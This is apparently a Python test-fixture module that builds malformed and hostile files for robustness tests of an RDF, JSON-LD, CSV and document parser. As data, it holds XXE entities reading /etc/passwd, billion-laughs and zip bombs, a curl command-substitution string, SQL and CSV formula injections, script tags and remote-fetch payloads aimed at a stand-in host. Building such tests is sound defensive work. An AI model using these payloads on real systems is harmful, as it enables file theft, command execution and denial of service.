"""Files that no honest volunteer sends: a name, the ending, the bytes, and the exit codes allowed.

The classes are those that were seen to break parsers: nesting, size, encodings, IRIs, literals,
fetching, entities, tables. ``{url}`` in a text is the address of a server that nobody may call.
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

CONFORMS, FAULTY, REFUSED = 0, 1, 2

KGO = "https://example.org/kg/ont#"
EVIL = "http://evil.example/"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file: ``make`` gives its bytes for the address of a server; ``codes`` are allowed."""

    name: str
    ending: str
    make: Callable[[str], bytes]
    codes: frozenset[int]


def _text(name: str, ending: str, text: str, *codes: int) -> Hostile:
    return Hostile(
        name,
        ending,
        lambda url: (
            text.replace("{url}", url)
            .replace("//{host}/", url.partition(":")[2])
            .encode("utf-8", "surrogatepass")
        ),
        frozenset(codes or (FAULTY, REFUSED)),
    )


def _bytes(name: str, ending: str, data: bytes, *codes: int) -> Hostile:
    return Hostile(name, ending, lambda _url: data, frozenset(codes or (FAULTY, REFUSED)))


def hostile_files() -> Iterator[Hostile]:
    """All of them, in an order that does not change."""
    yield from _encodings()
    yield from _turtle_syntax()
    yield from _turtle_terms()
    yield from _turtle_size()
    yield from _graphs()
    yield from _json_ld()
    yield from _json_ld_values()
    yield from _rdf_xml()
    yield from _tables()
    yield from _articles()


ENDINGS = ("ttl", "trig", "nt", "nq", "jsonld", "rdf", "csv")


def _encodings() -> Iterator[Hostile]:
    """What is no text, or not the text it seems, in every form."""
    picture = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
    for ending in ENDINGS:
        yield _bytes("nothing", ending, b"")
        yield _bytes("only a mark of order", ending, b"\xef\xbb\xbf")
        yield _bytes("only blank lines", ending, b" \t\r\n\n\n")
        yield _bytes("a picture", ending, picture)
        yield _bytes("compressed", ending, gzip.compress(b"<a> <b> <c> .", mtime=0))
        yield _bytes("utf-16", ending, "<a> <b> <c> .\n".encode("utf-16"))
        yield _bytes("latin-1", ending, "<http://e/é> <http://e/p> 'ü' .\n".encode("latin-1"))
        yield _bytes("zeros", ending, bytes(100_000))
        yield _bytes("overlong", ending, b"\xc0\xaf\xe0\x80\xaf" * 100)
        yield _bytes("a surrogate in bytes", ending, b"\xed\xa0\x80")


def _turtle_syntax() -> Iterator[Hostile]:
    for name, text in {
        "comments only": "# nothing\n" * 1000,
        "an unclosed text": '<http://e/s> <http://e/p> "abc',
        "an unclosed long text": '<http://e/s> <http://e/p> """abc\n' * 2,
        "an unclosed IRI": "<http://e/s" * 1000,
        "an unclosed bracket": "<http://e/s> <http://e/p> [ <http://e/p> ",
        "no prefix": "a:b c:d e:f .",
        "a text as subject": '"s" <http://e/p> "o" .',
        "a text as predicate": '<http://e/s> "p" "o" .',
        "carriage returns": "<http://e/s> <http://e/p> <http://e/o> .\r" * 20,
        "a mark of order inside": "<http://e/s> <http://e/p> <http://e/o> .\n\ufeff<http://e/s> x",
        "a NUL in an IRI": "<http://e/\x00> <http://e/p> <http://e/o> .",
        "controls in a text": '<http://e/s> <http://e/p> "\x1b]0;x\x07" .',
        "an update": "DROP ALL",
        "a query": "SELECT * WHERE { SERVICE <{url}> { ?s ?p ?o } }",
        "notation 3": "{ <http://e/s> <http://e/p> ?x } => { ?x a <http://e/T> } .",
        "a million full stops": "." * 1_000_000,
        "a million semicolons": "<http://e/s> <http://e/p> <http://e/o> " + ";" * 1_000_000 + " .",
        "an SQL injection": "'; DROP TABLE articles; --",
        "a shell": "$(curl {url}) `curl {url}`",
        "markup": "[bold red]x[/bold red] <script>alert(1)</script>",
    }.items():
        yield _text(name, "ttl", text)


def _turtle_terms() -> Iterator[Hostile]:
    endorser = f"<{KGO}endorser>"
    for name, term in {
        "a space in an IRI": "<http://e/a b>",
        "a quote in an IRI": '<http://e/a"b>',
        "an escaped bracket in an IRI": r"<http://e/a\u003Eb>",
        "an escaped space in an IRI": r"<http://e/a\u0020b>",
        "a relative IRI": "<a>",
        "an empty IRI": "<>",
        "a script": "<javascript:alert(1)>",
        "data": "<data:text/html,x>",
        "a file": "<file:///etc/passwd>",
        "a blob": "<blob:x>",
        "half a surrogate": r'"\uD800"',
        "an endless IRI": f"<http://e/{'a' * 1_000_000}>",
        "a number of a million digits": "9" * 1_000_000,
        "an endless exponent": '"1E999999999"^^<http://www.w3.org/2001/XMLSchema#decimal>',
        "a double beyond all": "1e999999999",
        "a date that is none": '"2015-02-30"^^<http://www.w3.org/2001/XMLSchema#date>',
        "a year of a thousand digits": (
            f'"{"9" * 1000}"^^<http://www.w3.org/2001/XMLSchema#gYear>'
        ),
        "an injected datatype": (
            rf'"x"^^<http://e/d\u003E . \u003C{EVIL}s\u003E \u003C{EVIL}p\u003E \u003C{EVIL}o>'
        ),
        "a datatype that is a script": '"x"^^<javascript:alert(1)>',
        "a relative datatype": '"x"^^<d>',
        "a language of a kilobyte": f'"x"@{"a" * 8}-{"b" * 1000}',
        "a statement about a statement": "<<( <http://e/s> <http://e/p> <http://e/o> )>>",
        "a text of five megabytes": f'"{"x" * 5_000_000}"',
        "changes of direction": '"\u202e\u2066abc\u2069"',
        "a formula": "\"=cmd|' /C calc'!A0\"",
        "nothing printable": '"\u200b\u2060\ufeff"',
    }.items():
        yield _text(name, "ttl", f"<http://e/s> {endorser} {term} .\n")
    for name, statement in {
        "a predicate that is a script": "<http://e/s> <javascript:x> <http://e/o> .",
        "a subject that is a file": f"<file:///etc/passwd> {endorser} <http://e/o> .",
        "a base that is a file": f"@base <file:///etc/> . <passwd> {endorser} <x> .",
        "a prefix that is a script": f"@prefix j: <javascript:> . j:x {endorser} j:y .",
        "a reified statement": f"<< <http://e/s> {endorser} <http://e/o> >> {endorser} 1 .",
        "an annotation": f"<http://e/s> {endorser} <http://e/o> {{| {endorser} 1 |}} .",
    }.items():
        yield _text(name, "ttl", statement)


def _turtle_size() -> Iterator[Hostile]:
    start = "<http://e/s> <http://e/p> "
    for name, text in {
        "a hundred thousand brackets": start + "[ <http://e/p> " * 100_000,
        "closed brackets, deep": start + "[ <http://e/p> " * 5000 + "1" + " ]" * 5000 + " .",
        "lists in lists": start + "( " * 100_000 + ") " * 100_000 + " .",
        "statements in statements": start + "<<( <a:s> <a:p> " * 20_000,
        "fifty thousand prefixes": "".join(
            f"@prefix p{number}: <http://e/{number}#> .\n" for number in range(50_000)
        ),
        "a long list": start + "( " + "1 " * 100_000 + ") .",
        "a hundred thousand strangers": "".join(
            f"<http://e/{number}> <http://e/p> {number} .\n" for number in range(100_000)
        ),
        "twenty thousand faults": "".join(
            f"<http://e/{number}> a <{KGO}Endorsement> .\n" for number in range(20_000)
        ),
        "one subject, many values": f"<http://e/s> a <{KGO}Endorsement> ; <{KGO}endorser> "
        + ", ".join(f"<http://e/{number}>" for number in range(20_000))
        + " .",
        "blank nodes in a ring": "".join(
            f"_:b{number} <{KGO}endorser> _:b{(number + 1) % 5000} .\n" for number in range(5000)
        ),
        "a class below itself": (
            f"<{KGO}Endorsement> <http://www.w3.org/2000/01/rdf-schema#subClassOf> "
            f"<{KGO}Endorsement> ."
        ),
    }.items():
        yield _text(name, "ttl", text)
    for name, line in {
        "a line of ten megabytes": f'<http://e/s> <http://e/p> "{"y" * 10_000_000}" .',
        "no full stop": "<http://e/s> <http://e/p> <http://e/o>\n" * 100,
    }.items():
        yield _text(name, "nt", line)


def _graphs() -> Iterator[Hostile]:
    own = "https://example.org/kg/id/article/0497b8f406ef9082"
    claim = f"<http://e/s> a <{KGO}Endorsement> ."
    for name, text in {
        "a graph of ours": f"<{own}> {{ {claim} }}",
        "a graph that is a file": f"<file:///etc/passwd> {{ {claim} }}",
        "a graph that is a script": f"<javascript:x> {{ {claim} }}",
        "a blank graph": f"_:g {{ {claim} }}",
        "a graph in a graph": f"<http://e/g> {{ <http://e/h> {{ {claim} }} }}",
        "an empty graph": "<http://e/g> { }",
        "a hundred thousand graphs": "".join(
            f"<http://e/{number}> {{ <http://e/s> <http://e/p> 1 }}\n" for number in range(100_000)
        ),
        "shapes of its own": (
            "@prefix sh: <http://www.w3.org/ns/shacl#> . <http://e/shape> a sh:NodeShape ; "
            f"sh:targetClass <{KGO}Endorsement> ; sh:deactivated true ."
        ),
        "a rule": (
            "@prefix sh: <http://www.w3.org/ns/shacl#> . <http://e/shape> a sh:NodeShape ; "
            "sh:rule [ a sh:SPARQLRule ; sh:construct 'CONSTRUCT {} WHERE { SERVICE <{url}> {} }' ]"
            " ."
        ),
        "an import": (
            "<http://e/o> a <http://www.w3.org/2002/07/owl#Ontology> ; "
            "<http://www.w3.org/2002/07/owl#imports> <{url}> ."
        ),
        "a term made new": f"<{KGO}endorser> a <http://www.w3.org/2002/07/owl#Class> .",
    }.items():
        yield _text(name, "trig", text)
    yield _text("a graph that is a text", "nq", '<http://e/s> <http://e/p> <http://e/o> "g" .')
    yield _text("five terms", "nq", "<http://e/s> <http://e/p> <http://e/o> <http://e/g> <a:b> .")


def _json_ld() -> Iterator[Hostile]:
    """Contexts that reach out, and nesting."""
    node = {"@id": "http://e/s", "@type": KGO + "Endorsement"}
    for name, context in {
        "a remote context": "{url}context.jsonld",
        "a local context": "file:///etc/passwd",
        "a path as context": "/etc/passwd",
        "a device as context": "/dev/zero",
        "a relative context": "context.jsonld",
        "a context without protocol": "//{host}/context.jsonld",
        "a context among others": [{"a": "http://e/a"}, "{url}"],
        "an imported context": {"@version": 1.1, "@import": "{url}"},
        "a context for a term": {"a": {"@id": "http://e/a", "@context": "{url}"}},
        "a context for a type": {"T": {"@id": KGO + "Endorsement", "@context": "{url}"}},
        "a context that is a number": 5,
        "a term that means itself": {"a": "b:x", "b": "a:y"},
        "a vocabulary of scripts": {"@vocab": "javascript:"},
        "a base that is a file": {"@base": "file:///etc/"},
        "a keyword made new": {"@id": "http://e/x"},
    }.items():
        yield _text(name, "jsonld", json.dumps({"@context": context, **node}))
    yield _text("a context inside", "jsonld", json.dumps(node | {KGO + "x": {"@context": "{url}"}}))
    for name, text in {
        "deep arrays": "[" * 100_000 + "]" * 100_000,
        "open arrays": "[" * 1_000_000,
        "deep objects": '{"http://e/p":' * 20_000 + "1" + "}" * 20_000,
        "deep objects of four thousand": '{"http://e/p":' * 4000 + "1" + "}" * 4000,
        "deep graphs": '{"@graph":[' * 4000 + "]}" * 4000,
        "deep lists": '{"@list":[' * 4000 + "]}" * 4000,
        "deep contexts": '{"@context":{"a":{"@id":"http://e/a","@context":' * 3000
        + "{}"
        + "}}}" * 3000,
    }.items():
        yield _text(name, "jsonld", text)


def _json_ld_values() -> Iterator[Hostile]:
    typed = f'"@type": "{KGO}Endorsement"'
    for name, text in {
        "no context": '{"id": "http://e/s", "endorser": "x"}',
        "no object": "5",
        "null": "null",
        "a text": '"http://e/s"',
        "an empty object": "{}",
        "an empty array": "[]",
        "a comment": '// x\n{"@id": "http://e/s"}',
        "a trailing comma": '{"@id": "http://e/s",}',
        "two documents": '{"@id": "http://e/s"}\n{"@id": "http://e/t"}',
        "not a number": f'{{"@id": "http://e/s", {typed}, "{KGO}count": NaN}}',
        "a number of a million digits": (
            f'{{"@id":"http://e/s",{typed},"{KGO}count":{"9" * 1_000_000}}}'
        ),
        "an endless exponent": f'{{"@id":"http://e/s",{typed},"{KGO}count":1e999999999}}',
        "an id that is a number": f'{{"@id": 5, {typed}}}',
        "an id that is an array": f'{{"@id": ["http://e/s"], {typed}}}',
        "an id with a space": f'{{"@id": "http://e/a b", {typed}}}',
        "an id that is a script": f'{{"@id": "javascript:alert(1)", {typed}}}',
        "a relative id": f'{{"@id": "x", {typed}}}',
        "a type that is a number": '{"@id": "http://e/s", "@type": 5}',
        "a key twice": f'{{"@id": "http://e/s", {typed}, "@id": "http://e/t"}}',
        "half a surrogate": f'{{"@id": "http://e/s", {typed}, "{KGO}rule": "\\ud800"}}',
        "a NUL": f'{{"@id": "http://e/s", {typed}, "{KGO}rule": "a\\u0000b"}}',
        "an injected datatype": (
            f'{{"@id": "http://e/s", {typed}, "{KGO}rule": {{"@value": "x", "@type": '
            f'"http://e/d> . <{EVIL}s> <{EVIL}p> <{EVIL}o"}}}}'
        ),
        "raw JSON": (
            f'{{"@id": "http://e/s", {typed}, "{KGO}rule": {{"@value": {{}}, "@type": "@json"}}}}'
        ),
        "a reverse property": (
            f'{{"@id": "http://e/s", "@reverse": {{"{KGO}endorser": "http://e/t"}}}}'
        ),
        "a graph of ours": (
            '{"@id": "https://example.org/kg/id/article/0497b8f406ef9082", "@graph": '
            f'[{{"@id": "http://e/s", {typed}}}]}}'
        ),
        "an unclosed object": '{"@id": "http://e/s"',
    }.items():
        yield _text(name, "jsonld", text)


def _rdf_xml() -> Iterator[Hostile]:
    head = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:k="{k}">'.replace(
            "{k}", KGO
        )
    )
    body = '<k:Endorsement rdf:about="http://e/s"><k:rule>{inside}</k:rule></k:Endorsement>'

    def document(declared: str, inside: str) -> str:
        return f'<?xml version="1.0"?>{declared}{head}{body.format(inside=inside)}</rdf:RDF>'

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    for name, text in {
        "an entity from a file": document(
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"
        ),
        "an entity from a server": document('<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>', "&e;"),
        "a document type from a server": document('<!DOCTYPE x SYSTEM "{url}x.dtd">', "x"),
        "a parameter entity": document('<!DOCTYPE x [<!ENTITY % e SYSTEM "{url}"> %e;]>', "x"),
        "a billion laughs": document(f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', "&l9;"),
        "a long entity often": document(
            f'<!DOCTYPE x [<!ENTITY e "{"x" * 30_000}">]>', "&e;" * 30_000
        ),
        "an inclusion": document(
            "",
            '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{url}" parse="text"/>',
        ),
        "a style sheet": '<?xml-stylesheet href="{url}"?>' + document("", "x")[21:],
        "an unknown entity": document("", "&nope;"),
        "an unclosed element": document("", "x")[:-10],
        "no namespace": "<RDF><a/></RDF>",
        "an unbound prefix": "<rdf:RDF><k:a/></rdf:RDF>",
        "a page": "<!doctype html><html><body><p>Hello</body></html>",
        "another encoding than said": '<?xml version="1.0" encoding="UTF-16"?>'
        + head
        + "</rdf:RDF>",
        "an encoding nobody knows": '<?xml version="1.0" encoding="x-nope"?>' + head + "</rdf:RDF>",
        "no statement": head + "</rdf:RDF>",
        "a base that is a file": head.replace("<rdf:RDF", '<rdf:RDF xml:base="file:///etc/"')
        + '<k:Endorsement rdf:about="passwd"/></rdf:RDF>',
        "an about that is a script": head + '<k:Endorsement rdf:about="javascript:x"/></rdf:RDF>',
        "a literal of markup": document("", "x").replace(
            "<k:rule>x", '<k:rule rdf:parseType="Literal"><script>alert(1)</script>'
        ),
        "one name twice": head + '<k:Area rdf:ID="a"/><k:Area rdf:ID="a"/></rdf:RDF>',
        "deep elements": head + "<k:Area><k:reading>" * 20_000 + "</rdf:RDF>",
        "closed elements, deep": head
        + "<k:Area><k:reading>" * 3000
        + "</k:reading></k:Area>" * 3000
        + "</rdf:RDF>",
        "an attribute of five megabytes": head
        + f'<k:Endorsement rdf:about="http://e/{"a" * 5_000_000}"/></rdf:RDF>',
        "a hundred thousand attributes": head
        + "<k:Area "
        + " ".join(f'k:a{number}="x"' for number in range(100_000))
        + "/></rdf:RDF>",
        "hidden text": head + f"<![CDATA[{'x' * 1000}]]></rdf:RDF>",
        "an injected datatype": head
        + '<k:Endorsement rdf:about="http://e/s"><k:rule rdf:datatype="http://e/d&gt; . &lt;a:b">x'
        + "</k:rule></k:Endorsement></rdf:RDF>",
    }.items():
        yield _text(name, "rdf", text)


def _tables() -> Iterator[Hostile]:
    for name, text in {
        "no known column": "a,b,c\n1,2,3\n",
        "a header only": "endorser,candidate,contest\n",
        "one column twice": "endorser,endorser,candidate\nX,Y,Z\n",
        "another separator": "endorser;candidate;contest\nX;Y;Z\n",
        "an unclosed quote": 'endorser,candidate\n"X,Y\n' * 50,
        "a cell of a megabyte": f"endorser,candidate\n{'x' * 1_000_000},Y\n",
        "a hundred thousand columns": ",".join(f"c{n}" for n in range(100_000)) + "\n1\n",
        "rows of all lengths": "endorser,candidate\n"
        + "".join("x," * n + "\n" for n in range(300)),
        "a NUL": "endorser,candidate\nX\x00,Y\n",
        "carriage returns only": "endorser,candidate\rX,Y\r",
        "formulas": "endorser,candidate\n=1+1,@SUM(A1)\n+x,-y\n",
        "nothing but commas": "," * 100_000 + "\n",
        "nothing but quotes": '"' * 100_001,
        "only line ends": "\n" * 100_000,
        "markup": "endorser,candidate\n[red]X[/red],<script>alert(1)</script>\n",
        "controls": "endorser,candidate\n\x1b[31mX,\x07Y\n",
        "a fetched picture": 'endorser,candidate\n"=IMAGE(""{url}"")",Y\n',
    }.items():
        yield _text(name, "csv", text)


def _zip(**members: bytes) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), data)
    return sink.getvalue()


def _articles() -> Iterator[Hostile]:
    yield _bytes("a broken PDF", "pdf", b"%PDF-1.7\n" + b"\x00\xff" * 5000)
    yield _bytes("a PDF cut off", "pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>")
    yield _bytes("no archive", "docx", b"PK\x03\x04" + bytes(500))
    yield _bytes("an archive of something else", "docx", _zip(x_txt=b"hello"))
    yield _bytes("a bomb", "docx", _zip(word__document_xml=b"<a>" + b" " * 200_000_000))
    for name, text in {
        "twenty thousand comments": "<!--" * 20_000,
        "deep elements": "<div>" * 50_000 + "x",
        "a script": "<html><body><script src='{url}'></script><img src='{url}'></body></html>",
    }.items():
        yield _text(name, "html", text, CONFORMS, FAULTY, REFUSED)
